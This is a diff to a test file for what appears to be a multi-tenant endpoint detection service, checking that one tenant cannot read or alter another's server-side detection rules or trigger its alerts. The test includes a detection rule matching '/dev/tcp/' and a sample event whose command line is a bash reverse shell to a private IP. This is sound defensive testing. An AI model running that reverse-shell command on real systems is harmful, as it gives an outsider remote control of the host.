@@ -25,7 +25,9 @@ for (const kind of TEST_DIALECTS) {
       const enrollTokId = ((await req('GET', `/api/v1/tenants/${A}/enrollment-tokens`)).json() as Array<{ id: string }>)[0]?.id;
       const cmd = (await req('POST', `/api/v1/tenants/${A}/agents/${a.agentId}/commands`, { type: 'scan', params: {} })).json() as { id: string };
       const pack = (await req('POST', `/api/v1/tenants/${A}/yara-packs`, { name: 'a-pack', source: 'rule A_Only { condition: true }' })).json() as { id: string };
-      assert.ok(alertId && policyId && groupId && userId && enrollTokId && cmd.id && pack.id);
+      const SHELL_RULE = "title: A only\nid: a-only-rule\nlogsource: {product: linux, category: process_creation}\ndetection: {s: {CommandLine|contains: /dev/tcp/}, condition: s}\n";
+      const serverRule = (await req('POST', `/api/v1/tenants/${A}/server-rules`, { source: SHELL_RULE })).json() as { id: string };
+      assert.ok(alertId && policyId && groupId && userId && enrollTokId && cmd.id && pack.id && serverRule.id);
 
       // Tenant B: its own owner (a different person) with a full set of rights there.
       const b = await req('POST', `/api/v1/tenants/${A}/users`, { email: 'b-owner@example.com', name: 'B', password: 'correct horse battery', role: 'helpdesk' });
@@ -44,12 +46,12 @@ for (const kind of TEST_DIALECTS) {
       const snapshot = async () =>
         JSON.stringify(
           await Promise.all(
-            ['alerts', 'policies', 'groups', 'users', 'tokens', 'enrollment-tokens', 'agents', 'audit', 'settings', `agents/${a.agentId}/commands`, 'yara-packs', `yara-packs/${pack.id}`].map(async (p) => (await req('GET', `/api/v1/tenants/${A}/${p}`)).json() as unknown),
+            ['alerts', 'policies', 'groups', 'users', 'tokens', 'enrollment-tokens', 'agents', 'audit', 'settings', `agents/${a.agentId}/commands`, 'yara-packs', `yara-packs/${pack.id}`, 'server-rules', `server-rules/${serverRule.id}`].map(async (p) => (await req('GET', `/api/v1/tenants/${A}/${p}`)).json() as unknown),
           ),
         );
       const before = await snapshot();
 
-      const ids: Record<string, string> = { agentId: a.agentId, alertId, policyId, groupId, userId, revision: '1', packId: pack.id };
+      const ids: Record<string, string> = { agentId: a.agentId, alertId, policyId, groupId, userId, revision: '1', packId: pack.id, ruleId: serverRule.id };
       const body: Record<string, unknown> = {
         'PUT /settings': { staleAfterDays: 3, alertDedupWindowMinutes: 5 },
         'POST /users': { email: 'evil@example.com', name: 'Evil', password: 'correct horse battery', role: 'owner' },
@@ -74,6 +76,9 @@ for (const kind of TEST_DIALECTS) {
         'POST /yara-packs/:packId/enable': undefined,
         'POST /yara-packs/:packId/disable': undefined,
         'DELETE /yara-packs/:packId': undefined,
+        'POST /server-rules': { source: SHELL_RULE.replace('a-only-rule', 'evil-rule') },
+        'PATCH /server-rules/:ruleId': { enabled: false },
+        'DELETE /server-rules/:ruleId': undefined,
         'POST /hunts': { rule: 'title: t\nlogsource: {product: linux, category: process_creation}\ndetection: {s: {Image|endswith: /true}, condition: s}\n' },
       };
       const prefix = '/api/v1/tenants/:tenantId';
@@ -107,6 +112,12 @@ for (const kind of TEST_DIALECTS) {
       // Agent API: B's agent gets B's YARA packs, never A's.
       const bundle = await h.app.inject({ method: 'GET', url: '/api/agent/v1/yara-rules', headers: { authorization: bAgent.auth } });
       assert.deepEqual((bundle.json() as { packs: unknown[] }).packs, []);
+      // Agent API: B's agent's events are never evaluated with A's server rules.
+      const shell = { '@timestamp': new Date().toISOString(), event: { id: crypto.randomUUID(), dataset: 'yamori.process', kind: 'event', category: ['process'], type: ['start'], action: 'exec' }, process: { entity_id: 'b1', pid: 7, executable: '/usr/bin/bash', command_line: 'bash -i >& /dev/tcp/10.0.0.9/1 0>&1' } };
+      assert.equal((await postEvents(h.app, bAgent.auth, [shell])).statusCode, 200);
+      await h.serverRules.idle();
+      const bAlerts = (await bSession.request('GET', `/api/v1/tenants/${B}/alerts`)).json() as { items: unknown[] };
+      assert.deepEqual(bAlerts.items, []);
       assert.equal(await snapshot(), before, "tenant A's data is unchanged");
     } finally {
       await h.close();
